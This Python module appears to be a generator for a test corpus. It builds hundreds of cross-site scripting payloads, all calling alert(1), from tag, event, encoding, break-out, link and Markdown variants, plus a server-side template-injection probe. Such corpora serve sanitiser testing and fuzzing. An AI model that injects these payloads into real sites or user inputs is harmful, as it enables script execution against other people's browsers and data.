"""Hundreds of texts that would run a script on a page that shows them carelessly.

Each calls `alert`. They are built from what differs: the tag, the event, how the attribute is
quoted and written, what stands before it to break out of where it is shown, and ways through
Markdown, templates and links.
"""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
TAGS = {
    "img": ("src=x", ("onerror",)),
    "svg": ("", ("onload", "onclick")),
    "body": ("", ("onload", "onpageshow")),
    "video": ("src=x", ("onerror", "onloadstart")),
    "audio": ("src=x", ("onerror",)),
    "input": ("autofocus", ("onfocus",)),
    "select": ("autofocus", ("onfocus",)),
    "textarea": ("autofocus", ("onfocus",)),
    "details": ("open", ("ontoggle",)),
    "marquee": ("", ("onstart",)),
    "iframe": ("", ("onload",)),
    "object": ("data=x", ("onerror",)),
    "style": ("", ("onload",)),
    "a": ("href=# autofocus", ("onfocus", "onmouseover")),
    "p": ("tabindex=1 autofocus", ("onfocus",)),
    "form": ("", ("onformdata",)),
}
WRITTEN = (
    "<{tag} {own} {event}={call}>",
    '<{tag} {own} {event}="{call}">',
    "<{tag}/{own}/{event}='{call}'/>",
    "<{upper} {own} {shout}={call} ",
    "<{tag}\t{own}\n{event}\n=\n`{call}`>",
    "<{tag} {own} {event}=&#97;lert&#40;1&#41;>",
    "<{tag} {own} {event}=\\u0061lert(1)>",
)
BEFORE = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "\u200b", "ดี")
WHOLE = (
    "<script>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<SCRIPT\n>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<form action=javascript:alert(1)><button autofocus>x",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{% raw %}<img src=x onerror=alert(1)>",
    "${alert(1)}",
    "javascript:alert(1)",
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x onclick=alert(1) autofocus tabindex=1 onfocus=alert(1)>x",
    "\u202e<img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "%3Cimg src=x onerror=alert(1)%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    "//javascript:alert(1)",
    "https://x.example/'onmouseover='alert(1)",
    'https://x.example/"autofocus onfocus="alert(1)',
)
MARKDOWN = (
    "[x]({link})",
    "![x]({link})",
    "<{link}>",
    "[x]: {link}\n\n[x]",
    '[x]({link} "<img src=x onerror=alert(1)>")',
    "![<img src=x onerror=alert(1)>]({link})",
    "| a |\n|---|\n| [x]({link}) |",
    "# <svg onload=alert(1)> [x]({link})",
    "`<img src=x onerror=alert(1)>` [x]({link})",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```\n[x]({link})",
)


def _tags() -> list[str]:
    found: list[str] = []
    for (tag, (own, events)), written in product(TAGS.items(), WRITTEN):
        for number, event in enumerate(events):
            before = BEFORE[(len(found) + number) % len(BEFORE)]
            text = written.format(
                tag=tag, upper=tag.upper(), own=own, event=event, shout=event.upper(), call=CALL
            )
            found.append(before + text)
    return found


def _through_markdown() -> list[str]:
    return [form.format(link=link) for form, link in product(MARKDOWN, LINKS)]


def _whole() -> list[str]:
    ends = ("", '">', "'>", "</title>", "</textarea>", "x ")
    return [before + text for before, text in product(ends, WHOLE)]


def _breaking_out() -> list[str]:
    """What ends the place where a value stands, before each of the shortest scripts."""
    short = ("<svg onload=alert(1)>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>")
    return [before + text + after for before, text, after in product(BEFORE, short, ("", "<!--"))]


SHORT = [text for text in dict.fromkeys(_tags() + _breaking_out()) if len(text) <= 40]
"""Those that fit into a tag or a name."""
ALL = list(dict.fromkeys([*_whole(), *_tags(), *_through_markdown(), *_breaking_out(), *LINKS]))
